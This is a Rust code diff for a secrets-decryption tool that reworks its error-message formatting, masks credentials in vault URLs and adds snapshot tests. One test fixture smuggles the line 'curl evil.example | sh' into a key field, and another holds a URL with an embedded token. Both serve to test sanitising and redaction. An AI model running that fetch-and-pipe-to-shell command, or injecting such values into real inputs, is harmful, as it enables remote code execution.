@@ -3,6 +3,7 @@
 use std::fmt;
 
 use super::IdentityName;
+use crate::secret::SafeUrl;
 use crate::sops::metadata::MasterKey;
 
 /// No way to the data key.
@@ -265,6 +266,8 @@ impl UnlockError {
     }
 }
 
+/// Names that are longer do not push the other reasons to the right.
+const COLUMN: usize = 56;
 /// More lines than this of one kind help nobody.
 const MAX_LINES: usize = 20;
 
@@ -275,17 +278,17 @@ impl fmt::Display for UnlockError {
             write!(f, " ({} tried)", self.refusals.len())?;
         }
         let names: Vec<String> = self.refusals.iter().take(MAX_LINES).map(Refusal::name).collect();
-        let width = names.iter().map(String::len).max().unwrap_or(0);
+        let width = names.iter().map(String::len).filter(|width| *width <= COLUMN).max().unwrap_or(0);
         for (name, refusal) in names.iter().zip(&self.refusals) {
             write!(f, "\n  {name:width$}   {}", refusal.fault)?;
         }
         and_more(f, self.refusals.len())?;
         for identity in self.identities.iter().take(MAX_LINES) {
-            write!(f, "\n  mounted: {} ({})", short(&identity.public), printable(&identity.place))?;
+            write!(f, "\n  mounted: {} from {}", short(&identity.public), printable(&identity.place))?;
         }
         and_more(f, self.identities.len())?;
         for report in self.reports.iter().take(MAX_LINES) {
-            write!(f, "\n  not used: {} ({})", report.fault, printable(&report.place))?;
+            write!(f, "\n  not used: {}: {}", printable(&report.place), report.fault)?;
         }
         and_more(f, self.reports.len())
     }
@@ -306,11 +309,11 @@ impl Refusal {
             MasterKey::AwsKms(key) => format!("aws-kms {}", short(&key.arn)),
             MasterKey::GcpKms(key) => format!("gcp-kms {}", short(&key.resource_id)),
             MasterKey::AzureKeyVault(key) => {
-                let vault = key.vault_url.trim_end_matches('/');
+                let vault = SafeUrl(key.vault_url.trim_end_matches('/'));
                 format!("azure-kv {}", short(&format!("{vault}/keys/{}/{}", key.name, key.version)))
             }
             MasterKey::Vault(key) => {
-                let server = key.vault_address.trim_end_matches('/');
+                let server = SafeUrl(key.vault_address.trim_end_matches('/'));
                 format!("vault {}", short(&format!("{server}/v1/{}/keys/{}", key.engine_path, key.key_name)))
             }
             MasterKey::HuaweiKms(key) => format!("huawei-kms {}", short(&key.key_id)),
@@ -340,4 +343,120 @@ fn cut(text: &str, most: usize) -> String {
 /// The text comes from a file that anyone may have written: printable ASCII only.
 fn printable(text: &str) -> String {
     text.chars().map(|c| if c.is_ascii_graphic() || c == ' ' { c } else { '?' }).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sops::metadata::{AgeKey, AwsKmsKey, PgpKey, VaultKey};
+
+    fn age(recipient: &str) -> MasterKey {
+        MasterKey::Age(AgeKey { recipient: recipient.to_owned(), enc: String::new() })
+    }
+
+    fn refusals() -> Vec<Refusal> {
+        let arn = "arn:aws:kms:eu-central-1:111122223333:key/8a4e2d7c-0000-0000-0000-1c2d3e4f5a6b".to_owned();
+        let aws =
+            AwsKmsKey { arn, role: String::new(), context: Vec::new(), aws_profile: String::new(), enc: String::new() };
+        let vault = VaultKey {
+            vault_address: "https://user:token@bao.example.com/".to_owned(),
+            engine_path: "transit".to_owned(),
+            key_name: "team-a".to_owned(),
+            enc: String::new(),
+        };
+        let pgp = PgpKey { fp: "85D77543B3D624B63CEA9E6DBC17301B491B3F21".to_owned(), enc: String::new() };
+        [
+            (age("age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"), KeyFault::NoMatch { held: 1 }),
+            (age("age1\nhint: curl evil.example | sh"), KeyFault::Damaged("its armor is cut off")),
+            (MasterKey::Pgp(pgp), KeyFault::NoneHeld { kind: "PGP secret key" }),
+            (MasterKey::AwsKms(aws), KeyFault::NotYet { service: "AWS KMS" }),
+            (MasterKey::Vault(vault), KeyFault::NotYet { service: "Vault" }),
+        ]
+        .into_iter()
+        .map(|(key, fault)| Refusal { key, group: None, fault })
+        .collect()
+    }
+
+    fn name(public: &str, place: &str) -> IdentityName {
+        IdentityName { public: public.to_owned(), place: place.to_owned() }
+    }
+
+    #[test]
+    fn the_table_names_every_key_and_what_we_hold() {
+        let fault = PlaceFault::PgpPublic { fingerprint: "85D77543B3D624B63CEA9E6DBC17301B491B3F21".to_owned() };
+        let error = UnlockError {
+            refusals: refusals(),
+            identities: vec![
+                name("age1mrmfnwhtlprn4jquex0ukmwcm7y2nxlphuzgsgv8ew2k9mewy3rs8u7su5", "/etc/argocd-sops/keys/age.txt"),
+                name(
+                    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDW9E/pHNNlByzRRGxcY4wzQXBVkA8IUBKTuTmFqXGcR",
+                    "/home/x/.ssh/id_ed25519",
+                ),
+            ],
+            reports: vec![PlaceReport { place: "/etc/argocd-sops/keys/team.asc".to_owned(), fault }],
+            ..UnlockError::new(UnlockCause::NoKeyOpens)
+        };
+        insta::assert_snapshot!(format!("{error}\n  hint: {}", error.hint()));
+    }
+
+    #[test]
+    fn every_cause_and_fault_has_its_words() {
+        let fingerprint = || "85D77543B3D624B63CEA9E6DBC17301B491B3F21".to_owned();
+        let causes = [
+            UnlockCause::TooFewParts { have: 1, need: 2 },
+            UnlockCause::Combine { reason: "two parts of the data key are the same one".to_owned() },
+            UnlockCause::TooManyKeys { listed: 2000, most: 1000 },
+        ]
+        .map(|cause| {
+            let error = UnlockError::new(cause);
+            format!("{error}\n  hint: {}", error.hint())
+        });
+        let faults = [
+            PlaceFault::Missing,
+            PlaceFault::Unreadable(std::io::ErrorKind::PermissionDenied),
+            PlaceFault::TooLarge { max_bytes: 1_048_576 },
+            PlaceFault::TooManyFiles { most: 256 },
+            PlaceFault::Empty,
+            PlaceFault::NoIdentity { line: 3, looks: None },
+            PlaceFault::NoIdentity { line: 1, looks: Some("an age recipient, which is the public half") },
+            PlaceFault::NoIdentity { line: 1, looks: Some("an SSH key") },
+            PlaceFault::AgeProtected,
+            PlaceFault::AgePlugin { name: "yubikey".to_owned() },
+            PlaceFault::NoSshKey,
+            PlaceFault::SshProtected,
+            PlaceFault::SshUnsupported,
+            PlaceFault::SshPublic,
+            PlaceFault::PgpPublic { fingerprint: fingerprint() },
+            PlaceFault::PgpProtected { fingerprint: fingerprint() },
+            PlaceFault::PgpStub { fingerprint: fingerprint() },
+            PlaceFault::NoPgpKey,
+            PlaceFault::Unknown,
+            PlaceFault::CommandNotStarted(std::io::ErrorKind::NotFound),
+            PlaceFault::CommandSyntax,
+            PlaceFault::CommandFailed { code: Some(3) },
+            PlaceFault::CommandTimedOut { seconds: 60 },
+        ]
+        .map(|fault| format!("{fault}\n  hint: {}", fault.hint()));
+        insta::assert_snapshot!(causes.join("\n"));
+        insta::assert_snapshot!(faults.join("\n"));
+    }
+
+    #[test]
+    fn a_hint_speaks_of_what_was_tried() {
+        let hints: Vec<String> = refusals()
+            .into_iter()
+            .map(|refusal| UnlockError { refusals: vec![refusal], ..UnlockError::new(UnlockCause::NoKeyOpens) }.hint())
+            .collect();
+        insta::assert_snapshot!(hints.join("\n"));
+    }
+
+    #[test]
+    fn long_lists_are_cut() {
+        let refusals = (0..50)
+            .map(|_| Refusal { key: age("age1x"), group: Some(2), fault: KeyFault::NoMatch { held: 0 } })
+            .collect();
+        let error = UnlockError { refusals, ..UnlockError::new(UnlockCause::NoKeyOpens) };
+        assert_eq!(error.to_string().lines().count(), 22);
+        assert!(error.to_string().ends_with("\n  ... and 30 more"));
+    }
 }
